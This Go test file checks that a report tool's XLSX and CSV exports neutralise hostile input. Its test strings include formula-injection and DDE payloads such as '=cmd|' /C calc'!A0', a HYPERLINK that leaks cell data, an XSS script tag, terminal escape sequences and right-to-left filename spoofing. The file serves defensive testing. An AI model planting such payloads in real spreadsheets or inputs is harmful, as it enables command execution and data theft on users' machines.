package main

import (
	"archive/zip"
	"bytes"
	"encoding/csv"
	"encoding/xml"
	"errors"
	"fmt"
	"io"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"

	"github.com/touchstone-health/touchstone/pkg/exact"
	"github.com/touchstone-health/touchstone/pkg/render"
	"github.com/touchstone-health/touchstone/pkg/report"
	"github.com/touchstone-health/touchstone/pkg/text"
)

// hostileTexts are texts that would like to be more than text.
var hostileTexts = []string{
	`<script>alert(1)</script><b onload="x()">`,
	"\x1b[2J\x1b]0;owned\x07 cleared",
	"\u202egpj.exe\u200b\u2066 turned",
	`=1+1`, `+1+1`, `-1+1`, `@SUM(1+1)`, ` =1+1`, "\t=1+1", "\r\n=1+1", "\u00a0=1+1", "\u200d=1+1",
	`=cmd|' /C calc'!A0`, `=HYPERLINK("https://example.org/?"&A1,"Click")`, `=WEBSERVICE("https://example.org")`, `=DDE("cmd";"/C calc";"1")`,
	`＝1+1`, `＋1`, `－1`, `＠SUM(1)`, `"=1+1"`, `'=1+1`, `fine;=1+1;"=2+2"`, `fine;	@x`,
	`_x0041_`, `_x005F_x0041_`, `]]>&amp;&#x1b;<![CDATA[`, "\x00 null, \ufffe none", `{=1+1}`, `#REF!`, `'Criteria'!A1`, `&P&N&"Arial"`,
	strings.Repeat("word", 2000), strings.Repeat("=", 300), strings.Repeat("😀long ", 6000),
}

// hostileReports are of a record and a rubric that say nothing else.
func hostileReports(t *testing.T) []*report.Report {
	t.Helper()
	var answers, evidence, criteria strings.Builder
	for i, h := range hostileTexts {
		q := quoted(h)
		fmt.Fprintf(&criteria, "  - {id: c%d, title: %s, ask: %s, scale: [{value: 0, label: %s}, {value: 1, label: %s}, {value: 2, label: %s}]}\n", i, q, q, quoted("0 "+h), quoted("1 "+h), quoted("2 "+h))
		fmt.Fprintf(&evidence, "  - {id: e%d, kind: paper, title: %s, issuer: %s, locator: %s, dated: 2026-01-01}\n", i, q, q, quoted(hostileTexts[3]))
		fmt.Fprintf(&answers, "  c%d: {level: 1, because: %s, evidence: [e%d]}\n", i, q, i)
	}
	folder := t.TempDir()
	for name, content := range map[string]string{
		"rubric.yaml": "touchstone: rubric/v1\nid: hostile\nversion: 1.0.0\ntitle: " + quoted(hostileTexts[3]) + "\nkinds: {paper: {title: " + quoted(hostileTexts[4]) + "}}\n" +
			"facts: {said: {type: text, ask: " + quoted(hostileTexts[12]) + "}}\ncriteria:\n" + criteria.String() +
			"gates: [{id: gate, needs: level(\"c0\") >= 2, otherwise: fail, because: " + quoted(hostileTexts[13]) + "}]\n" +
			"flags: [{id: flag, when: level(\"c0\") < 2, severity: high, effect: inform, say: " + quoted(hostileTexts[14]) + ", clears: " + quoted(hostileTexts[15]) + "}]\n",
		"record.yaml": "touchstone: innovation/v1\nid: hostile\nname: " + quoted(hostileTexts[12]) + "\nsummary: " + quoted(hostileTexts[0]) + "\nsupplier: {name: " + quoted(hostileTexts[2]) + "}\n" +
			"version: " + quoted(hostileTexts[4]) + "\nfacts: {said: " + quoted(hostileTexts[12]) + "}\nevidence:\n" + evidence.String() + "answers:\n" + answers.String(),
	} {
		if err := os.WriteFile(filepath.Join(folder, name), []byte(content), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	return reportsOf(t, filepath.Join(folder, "record.yaml"), "--rubric", filepath.Join(folder, "rubric.yaml"))
}

// quoted writes a text so that YAML reads it as it is.
func quoted(s string) string {
	var b strings.Builder
	b.WriteByte('"')
	for _, r := range s {
		switch {
		case r == '"' || r == '\\':
			b.WriteString(`\` + string(r))
		case r > 0xffff:
			fmt.Fprintf(&b, `\U%08x`, r)
		case r < ' ' || r > '~':
			fmt.Fprintf(&b, `\u%04x`, r)
		default:
			b.WriteRune(r)
		}
	}
	b.WriteByte('"')
	return b.String()
}

// ours is all that a formula may be made of.
var ours = regexp.MustCompile(`^(IF|SUMPRODUCT|ISNUMBER|ROUND|Criteria!|"not known"|\$[A-Z]{1,2}\$[0-9]+|[0-9.]+|[-()*/+=,:])+$`)

// Texts stand in cells of text as they are, but for what no eye can see; no formula, link or part is theirs.
func TestWorkbookHoldsHostileTexts(t *testing.T) {
	book := workbookOf(t, hostileReports(t))
	f, err := excelize.OpenReader(bytes.NewReader(book))
	if err != nil {
		t.Fatal(err)
	}
	defer func() { _ = f.Close() }()
	seen := map[string]bool{}
	formulas := 0
	for _, sheet := range f.GetSheetList() {
		rows, err := f.GetRows(sheet)
		if err != nil {
			t.Fatal(err)
		}
		for r, row := range rows {
			for c := range row {
				at, err := excelize.CoordinatesToCellName(c+1, r+1)
				if err != nil {
					t.Fatal(err)
				}
				value, err := f.GetCellValue(sheet, at)
				if err != nil {
					t.Fatal(err)
				}
				seen[value] = true
				formula, err := f.GetCellFormula(sheet, at)
				if err != nil || formula != "" && !ours.MatchString(formula) {
					t.Errorf("%s %s: formula %q (%v)", sheet, at, formula, err)
				}
				if link, _, err := f.GetCellHyperLink(sheet, at); link || err != nil {
					t.Errorf("%s %s is a link (%v)", sheet, at, err)
				}
				if kind, err := f.GetCellType(sheet, at); err != nil || formula == "" && strings.HasPrefix(value, "=") && kind != excelize.CellTypeInlineString {
					t.Errorf("%s %s: %q is in a cell of type %d (%v)", sheet, at, value, kind, err)
				}
				if formula != "" {
					formulas++
				} else if strings.ContainsAny(value[:min(1, len(value))], "=+-@") && !marked(t, f, sheet, at) && !isNumber(value) {
					t.Errorf("%s %s: %q becomes a formula when it is edited", sheet, at, value)
				}
			}
		}
	}
	if formulas < 100 {
		t.Errorf("%d formulas, want more", formulas)
	}
	for _, h := range hostileTexts {
		want := text.Visible(h)
		if len(want) > 30000 {
			want = want[:30000]
		}
		if !slices.ContainsFunc(keys(seen), func(s string) bool { return strings.HasPrefix(s, want) }) {
			t.Errorf("%.60q stands nowhere", want)
		}
	}
	parts(t, book)
}

func keys(m map[string]bool) []string {
	var all []string
	for k := range m {
		all = append(all, k)
	}
	return all
}

func isNumber(s string) bool {
	_, err := strconv.ParseFloat(strings.TrimSuffix(s, "%"), 64)
	return err == nil
}

// marked reports whether a cell says that its text is text.
func marked(t *testing.T, f *excelize.File, sheet, at string) bool {
	t.Helper()
	id, err := f.GetCellStyle(sheet, at)
	if err != nil {
		t.Fatal(err)
	}
	mark := f.Styles.CellXfs.Xf[id].QuotePrefix
	return mark != nil && *mark
}

// parts holds a book to the parts that it should have, each of them well formed and without a link to anywhere else.
func parts(t *testing.T, book []byte) {
	t.Helper()
	z, err := zip.NewReader(bytes.NewReader(book), int64(len(book)))
	if err != nil {
		t.Fatal(err)
	}
	expected := regexp.MustCompile(`^(\[Content_Types\]\.xml|_rels/\.rels|docProps/(app|core)\.xml|xl/_rels/workbook\.xml\.rels|xl/(styles|workbook|theme/theme1)\.xml|xl/worksheets/sheet\d+\.xml)$`)
	for _, f := range z.File {
		if !expected.MatchString(f.Name) {
			t.Errorf("a part that was not expected: %s", f.Name)
		}
		r, err := f.Open()
		if err != nil {
			t.Fatal(err)
		}
		data, err := io.ReadAll(r)
		if err != nil {
			t.Fatal(err)
		}
		if bytes.Contains(data, []byte("TargetMode")) || bytes.Contains(data, []byte("<hyperlink")) || bytes.Contains(data, []byte("ddeLink")) {
			t.Errorf("%s leads elsewhere", f.Name)
		}
		for d := xml.NewDecoder(bytes.NewReader(data)); ; {
			if _, err := d.Token(); errors.Is(err, io.EOF) {
				break
			} else if err != nil {
				t.Fatalf("%s: %v", f.Name, err)
			}
		}
		if !f.Modified.IsZero() && f.Modified.Year() > 1980 {
			t.Errorf("%s has a time: %v", f.Name, f.Modified)
		}
	}
}

// begins is what a program takes for the beginning of a formula, wherever it parts fields, at commas or at semicolons.
var begins = regexp.MustCompile(`(^|;)[\s\x{a0}\x{3000}\x{200c}\x{200d}"]*[=+\-@＝＋－＠\t\r]`)

// No field of text begins like a formula, and each text can be read out of it again.
func TestCSVHoldsHostileTexts(t *testing.T) {
	for _, file := range []bool{false, true} {
		var b bytes.Buffer
		if err := render.CSV(&b, hostileReports(t), render.Options{File: file}); err != nil {
			t.Fatal(err)
		}
		written := b.String()
		if got := strings.HasPrefix(written, "\ufeff"); got != file {
			t.Errorf("in a file %t: a byte order mark %t", file, got)
		}
		rows, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(written, "\ufeff"))).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		seen := map[string]bool{}
		for _, row := range rows {
			for i, field := range row {
				if _, err := exact.Parse(field); err != nil && begins.MatchString(field) {
					t.Errorf("%s: %q", rows[0][i], field)
				}
				if text.Visible(field) != field {
					t.Errorf("%s: %q holds what no eye can see", rows[0][i], field)
				}
				seen[strings.ReplaceAll(strings.TrimPrefix(field, "'"), ";'", ";")] = true
			}
		}
		for _, h := range hostileTexts {
			if want := strings.ReplaceAll(strings.TrimPrefix(text.Visible(h), "'"), ";'", ";"); !seen[want] {
				t.Errorf("%.60q cannot be read again", want)
			}
		}
	}
}
